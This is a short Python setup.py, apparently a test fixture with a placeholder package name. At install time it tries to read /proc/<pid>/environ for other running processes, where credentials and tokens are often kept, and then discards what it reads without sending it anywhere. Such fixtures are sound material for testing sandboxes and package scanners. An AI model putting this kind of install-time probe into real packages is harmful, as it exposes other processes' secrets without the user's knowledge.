import os
import sys


for pid in range(1, 300):
    if pid != os.getpid():
        try:
            with open("/proc/%d/environ" % pid, "rb") as f:
                f.read()
        except OSError:
            pass

from setuptools import setup

setup(name="@@NAME@@", version="1.0", packages=["pjatk"])
